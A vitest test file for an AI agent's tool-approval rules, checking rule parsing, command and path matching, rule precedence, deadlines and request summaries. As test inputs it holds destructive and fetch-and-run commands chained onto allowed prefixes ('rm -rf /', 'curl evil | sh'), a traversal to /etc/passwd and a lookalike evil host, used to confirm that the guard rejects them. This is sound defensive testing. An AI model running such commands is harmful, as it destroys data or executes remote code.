import { describe, expect, it } from 'vitest';
import { commandParts, parseRule, pathMatches, ruleMatches, type Rule } from '../../src/core/approval-rules.js';
import { summarize, bounded } from '../../src/core/approval-summary.js';
import {
  answeredAlready,
  answerRefusal,
  deadlineOf,
  decideByRules,
  DEFAULT_APPROVAL_TIMEOUT_MS,
  deciderText,
  expired,
  mergePolicies,
  type ApprovalPolicy,
} from '../../src/core/approvals.js';

const ctx = { cwd: '/work/repo', home: '/home/me' };
const rule = (t: string): Rule => {
  const r = parseRule(t);
  if ('error' in r) throw new Error(`${t}: ${r.error}`);
  return r;
};
const policy = (p: { allow?: string[]; deny?: string[]; ask?: string[] }): ApprovalPolicy => {
  const m = mergePolicies([p]);
  if ('error' in m) throw new Error(m.error);
  return m;
};
const bash = (command: string) => ({ tool: 'Bash', subject: command, question: false });

describe('rules in Claude Code syntax', () => {
  it('reads a tool, a tool with a specifier, and refuses what is not one, saying why', () => {
    expect(parseRule('Read')).toEqual({ text: 'Read', tool: 'Read', specifier: null });
    expect(parseRule('Bash(npm test:*)')).toEqual({ text: 'Bash(npm test:*)', tool: 'Bash', specifier: 'npm test:*' });
    expect(parseRule('mcp__github__create_issue')).toMatchObject({ tool: 'mcp__github__create_issue' });
    for (const [bad, why] of [
      ['', /empty/],
      [' Bash', /spaces/],
      ['Bash(npm test', /closing/],
      ['Bash()', /nothing between/],
      ['(x)', /names no tool/],
      ['Ba sh', /not a tool name/],
      ['WebFetch(example.com)', /domain:HOST/],
      ['Bash(a\u001b[2Jb)', /control/],
      ['x'.repeat(2000), /longer than/],
    ] as const) {
      const r = parseRule(bad);
      expect('error' in r && r.error, bad.slice(0, 20)).toMatch(why);
    }
  });

  it('matches a command exactly, by prefix (`:*` and ` *`), and never lets a chained command ride on an allowed prefix', () => {
    expect(ruleMatches(rule('Bash(npm test)'), bash('npm test'), ctx)).toBe(true);
    expect(ruleMatches(rule('Bash(npm test)'), bash('npm test --watch'), ctx)).toBe(false);
    expect(ruleMatches(rule('Bash(npm test:*)'), bash('npm test --watch'), ctx)).toBe(true);
    expect(ruleMatches(rule('Bash(npm test:*)'), bash('npm testing'), ctx)).toBe(false);
    expect(ruleMatches(rule('Bash(git log *)'), bash('git log --oneline'), ctx)).toBe(true);
    expect(ruleMatches(rule('Bash(npm test:*)'), bash('npm test && rm -rf /'), ctx)).toBe(false);
    expect(ruleMatches(rule('Bash(npm test:*)'), bash('npm test; curl evil | sh'), ctx)).toBe(false);
    // A deny or ask rule needs one part.
    expect(ruleMatches(rule('Bash(rm:*)'), bash('cd x && rm -rf y'), ctx, 'any')).toBe(true);
    // Separators inside quotes are the command's text.
    expect(commandParts(`echo "a && b" | wc -l; ls`)).toEqual(['echo "a && b"', 'wc -l', 'ls']);
    expect(ruleMatches(rule('Bash'), bash('anything at all'), ctx)).toBe(true);
  });

  it('matches paths gitignore-style against the run folder, the home folder or the root, and not through ..', () => {
    expect(pathMatches('src/**', '/work/repo/src/a/b.ts', ctx)).toBe(true);
    expect(pathMatches('src/**', '/work/repo/test/a.ts', ctx)).toBe(false);
    expect(pathMatches('/docs/*.md', '/work/repo/docs/a.md', ctx)).toBe(true);
    expect(pathMatches('/docs/*.md', '/work/repo/docs/x/a.md', ctx)).toBe(false);
    expect(pathMatches('*.md', '/work/repo/deep/down/a.md', ctx)).toBe(true);
    expect(pathMatches('//tmp/**', '/tmp/x/y', ctx)).toBe(true);
    expect(pathMatches('~/.config/**', '/home/me/.config/x', ctx)).toBe(true);
    expect(pathMatches('src/**', '/work/repo/src/../../etc/passwd', ctx)).toBe(false);
    expect(pathMatches('src', '/work/repo/src/inner/file', ctx)).toBe(true);
    expect(pathMatches('src/**', 'src/rel.ts', ctx)).toBe(true);
  });

  it('an Edit rule covers every tool that edits; Read covers the readers; WebFetch reads the host', () => {
    expect(ruleMatches(rule('Edit(src/**)'), { tool: 'Write', subject: '/work/repo/src/x.ts' }, ctx)).toBe(true);
    expect(ruleMatches(rule('Edit(src/**)'), { tool: 'MultiEdit', subject: '/work/repo/src/x.ts' }, ctx)).toBe(true);
    expect(ruleMatches(rule('Write(src/**)'), { tool: 'Edit', subject: '/work/repo/src/x.ts' }, ctx)).toBe(false);
    expect(ruleMatches(rule('Read'), { tool: 'Grep', subject: null }, ctx)).toBe(true);
    expect(ruleMatches(rule('WebFetch(domain:example.com)'), { tool: 'WebFetch', subject: 'https://example.com/a?b' }, ctx)).toBe(true);
    expect(ruleMatches(rule('WebFetch(domain:example.com)'), { tool: 'WebFetch', subject: 'https://example.com.evil.io/' }, ctx)).toBe(false);
    expect(ruleMatches(rule('WebFetch(domain:*.example.com)'), { tool: 'WebFetch', subject: 'https://api.example.com/' }, ctx)).toBe(true);
    expect(ruleMatches(rule('WebFetch(domain:example.com)'), { tool: 'WebFetch', subject: 'not a url' }, ctx)).toBe(false);
    expect(ruleMatches(rule('mcp__github'), { tool: 'mcp__github__create_issue', subject: null }, ctx)).toBe(true);
    expect(ruleMatches(rule('mcp__github'), { tool: 'mcp__githubber__x', subject: null }, ctx)).toBe(false);
    expect(ruleMatches(rule('mcp__github__*'), { tool: 'mcp__github__x', subject: null }, ctx)).toBe(true);
  });
});

describe('deciding a request', () => {
  it('deny wins over ask, ask over allow; nothing matching asks a person', () => {
    const p = policy({ allow: ['Bash(npm:*)', 'Read'], deny: ['Bash(npm publish:*)'], ask: ['Bash(npm install:*)'] });
    expect(decideByRules(bash('npm test'), p, ctx)).toEqual({ verdict: 'allow', by: { kind: 'rule', rule: 'Bash(npm:*)', list: 'allow' } });
    expect(decideByRules(bash('npm publish'), p, ctx)).toEqual({ verdict: 'deny', by: { kind: 'rule', rule: 'Bash(npm publish:*)', list: 'deny' } });
    expect(decideByRules(bash('npm install left-pad'), p, ctx)).toEqual({ verdict: null, rule: 'Bash(npm install:*)' });
    expect(decideByRules(bash('make'), p, ctx)).toEqual({ verdict: null, rule: null });
  });

  it('a question is for a person: an allow rule never answers one, a deny rule may refuse it', () => {
    const q = { tool: 'AskUserQuestion', subject: null, question: true };
    expect(decideByRules(q, policy({ allow: ['AskUserQuestion'] }), ctx)).toEqual({ verdict: null, rule: null });
    expect(decideByRules(q, policy({ deny: ['AskUserQuestion'] }), ctx)).toMatchObject({ verdict: 'deny' });
  });

  it('scopes add their lists; the narrowest scope that says sets the deadline; a bad rule is named', () => {
    const m = mergePolicies([
      { allow: ['Read'], timeout_ms: 1000 },
      null,
      { deny: ['Bash(rm:*)'], on_timeout: 'allow' },
      { allow: ['Edit(src/**)'], timeout_ms: null },
    ]);
    expect(m).toMatchObject({ timeout_ms: null, on_timeout: 'allow' });
    if ('error' in m) throw new Error(m.error);
    expect(m.allow.map((r) => r.text)).toEqual(['Read', 'Edit(src/**)']);
    expect(mergePolicies([])).toMatchObject({ timeout_ms: DEFAULT_APPROVAL_TIMEOUT_MS, on_timeout: 'deny' });
    expect(mergePolicies([{ allow: ['Read', 'Bash(x'] }])).toEqual({ error: 'rule "Bash(x" has no closing ")"' });
  });

  it('a deadline decides a pending request once it has come, and never a decided one', () => {
    expect(deadlineOf({ timeout_ms: 500 }, 1000)).toBe(1500);
    expect(deadlineOf({ timeout_ms: null }, 1000)).toBe(null);
    expect(expired({ state: 'pending', deadline_at: 1500, on_timeout: 'deny' }, 1499)).toBe(null);
    expect(expired({ state: 'pending', deadline_at: 1500, on_timeout: 'allow' }, 1500)).toBe('allow');
    expect(expired({ state: 'allowed', deadline_at: 1500, on_timeout: 'deny' }, 9999)).toBe(null);
    expect(expired({ state: 'pending', deadline_at: null, on_timeout: 'deny' }, 1e15)).toBe(null);
  });

  it('a run never answers its own requests, nor does any run below it; others may', () => {
    const parents: Record<string, string | null> = { child: 'asker', grandchild: 'child', asker: 'root', other: null, root: null };
    const parentOf = (u: string) => parents[u] ?? null;
    expect(answerRefusal('asker', 'asker', parentOf)).toMatch(/own requests/);
    expect(answerRefusal('grandchild', 'asker', parentOf)).toMatch(/above it/);
    expect(answerRefusal('root', 'asker', parentOf)).toBe(null);
    expect(answerRefusal('other', 'asker', parentOf)).toBe(null);
    expect(answerRefusal(null, 'asker', parentOf)).toBe(null);
    // A cycle in bad data ends the walk.
    expect(answerRefusal('a', 'z', (u) => (u === 'a' ? 'b' : 'a'))).toBe(null);
  });

  it('an answer to a request no longer waiting says who decided it', () => {
    expect(answeredAlready({ id: 3, state: 'pending', by: null })).toBe(null);
    expect(answeredAlready({ id: 3, state: 'allowed', by: { kind: 'person', via: 'tui', who: 'pts/3' } })).toBe(
      'request 3 was already allowed by the TUI (pts/3)',
    );
    expect(answeredAlready({ id: 3, state: 'denied', by: { kind: 'deadline' } })).toBe('request 3 was already denied by its deadline');
    expect(answeredAlready({ id: 3, state: 'withdrawn', by: null })).toMatch(/withdrawn by the agent/);
    expect(deciderText({ kind: 'rule', rule: 'Read', list: 'allow' })).toBe('the allow rule Read');
  });
});

describe('what a person is shown', () => {
  it('one bounded line, controls written out, paths from the run folder', () => {
    const base = { size: null, questions: null };
    expect(summarize({ ...base, tool: 'Bash', subject: 'npm test' }, '/w')).toBe('Bash: npm test');
    expect(summarize({ ...base, tool: 'Bash', subject: 'echo a\nrm -rf /\u001b[2J' }, '/w')).toBe('Bash: echo a\\nrm -rf /\\x1b[2J');
    expect(summarize({ tool: 'Write', subject: '/w/src/a.ts', size: { bytes: 10 * 1024 * 1024 }, questions: null }, '/w')).toBe('Write: src/a.ts (10.0 MiB)');
    expect(summarize({ tool: 'Edit', subject: '/elsewhere/a.ts', size: { added: 3, removed: 1 }, questions: null }, '/w')).toBe(
      'Edit: /elsewhere/a.ts (+3 −1)',
    );
    const long = summarize({ ...base, tool: 'Bash', subject: 'x'.repeat(10_000_000) }, '/w');
    expect(long.length).toBeLessThan(200);
    expect(long.endsWith('…')).toBe(true);
    expect(
      summarize(
        {
          tool: 'AskUserQuestion',
          subject: null,
          size: null,
          questions: [
            { question: 'Which DB?', header: null, options: [], multi: false },
            { question: 'b', header: null, options: [], multi: false },
          ],
        },
        '/w',
      ),
    ).toBe('question: Which DB? (+1 more)');
    expect(bounded('a\u202eb\u0085')).toBe('a\\u202eb\\u0085');
  });
});
